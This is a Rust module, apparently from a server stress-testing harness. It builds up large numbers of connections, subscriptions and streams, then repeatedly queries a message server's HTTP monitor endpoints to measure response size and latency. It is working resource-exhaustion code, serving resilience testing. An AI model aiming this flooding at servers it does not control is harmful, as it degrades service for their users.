//! Attacks on the server's HTTP monitor: the attacker asks again and again for the list of all connections,
//! subscriptions or streams.

use std::io::{Read as _, Write as _};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};
use serde_json::{Value, json};

use super::{Deeds, Job, Strike, millis, subscriptions as many};
use crate::wire::{Wire, dial};

/// The greatest number of bytes of an answer that the attacker reads, to bound its memory.
const ANSWER_BYTES_MAX: u64 = 1 << 30;

/// Prepares the attack that lists connections: opens the connections that the list will have.
pub(super) fn connections(job: Job, until: Instant) -> anyhow::Result<Strike> {
    let mut wires: Vec<Wire> = Vec::new();
    let mut failure = None;
    while (wires.len() as u64) < job.amount && Instant::now() < until {
        match job.wire() {
            Ok(wire) => wires.push(wire),
            Err(e) => {
                failure = Some(format!("{e:#}"));
                break;
            }
        }
    }
    let short = (wires.len() as u64) < job.amount;
    let note = short.then(|| {
        let why = failure.unwrap_or_else(|| "time is up".into());
        format!("{} of {} connections: {why}", wires.len(), job.amount)
    });
    Ok(Box::new(move |until| {
        let deeds = ask(&job, "/connz?subs=1&auth=1&limit=1000000", until)?;
        let deeds = deeds.put("connections", wires.len() as f64);
        Ok(match note {
            Some(note) => deeds.note(note),
            None => deeds,
        })
    }))
}

/// Prepares the attack that lists subscriptions: makes the subscriptions that the list will have.
pub(super) fn subscriptions(job: Job, until: Instant) -> anyhow::Result<Strike> {
    let mut wire = job.wire()?;
    many::subscribe(&mut wire, job.amount, until)?;
    Ok(Box::new(move |until| {
        let deeds = ask(&job, "/subsz?subs=1&limit=10000000", until)?;
        drop(wire);
        Ok(deeds.put("subscriptions", job.amount as f64))
    }))
}

/// Prepares the attack that lists streams: makes the streams that the list will have, each with one consumer.
pub(super) fn streams(job: Job, until: Instant) -> anyhow::Result<Strike> {
    let mut wire = job.wire()?;
    for n in 0..job.amount {
        let name = format!("ATTACK{n}");
        let config = json!({"name": name, "subjects": [format!("attack{n}.>")], "storage": "file"});
        wire.api(&format!("STREAM.CREATE.{name}"), &config, until)?;
        let consumer =
            json!({"stream_name": name, "config": {"durable_name": "C", "ack_policy": "explicit"}});
        wire.api(
            &format!("CONSUMER.DURABLE.CREATE.{name}.C"),
            &consumer,
            until,
        )?;
    }
    Ok(Box::new(move |until| {
        let path = "/jsz?accounts=1&streams=1&consumers=1&config=1&limit=1000000";
        let deeds = ask(&job, path, until)?;
        Ok(deeds.put("streams", job.amount as f64))
    }))
}

fn ask(job: &Job, path: &str, until: Instant) -> anyhow::Result<Deeds> {
    let start = Instant::now();
    let end = until.min(start + job.lasts());
    let (mut answers, mut bytes) = (0, 0);
    while answers == 0 || Instant::now() < end {
        bytes = get(job.http, path, until)?.len();
        answers += 1;
    }
    Ok(Deeds::default()
        .put("answers", f64::from(answers))
        .put("answer_bytes", bytes as f64)
        .put("answer_ms", millis(start) / f64::from(answers)))
}

/// Returns the number of the server's subscriptions, as the monitor reports it.
///
/// # Errors
///
/// The monitor does not answer.
pub(super) fn subscriptions_now(http: SocketAddr, until: Instant) -> anyhow::Result<u64> {
    let answer: Value = serde_json::from_slice(&get(http, "/subsz", until)?)?;
    answer["num_subscriptions"]
        .as_u64()
        .context("/subsz has no num_subscriptions")
}

fn get(http: SocketAddr, path: &str, until: Instant) -> anyhow::Result<Vec<u8>> {
    let left = until.saturating_duration_since(Instant::now());
    let mut stream = dial(http, None, left.max(Duration::from_millis(1)))?;
    write!(stream, "GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n")?;
    let mut answer = Vec::new();
    stream.take(ANSWER_BYTES_MAX).read_to_end(&mut answer)?;
    let head = answer.windows(4).position(|w| w == b"\r\n\r\n");
    let body = answer.split_off(head.context("no HTTP")? + 4);
    let status = answer.split(|b| *b == b' ').nth(1);
    ensure!(
        status == Some(b"200"),
        "{path}: {}",
        String::from_utf8_lossy(&answer)
            .lines()
            .next()
            .unwrap_or("")
    );
    Ok(body)
}
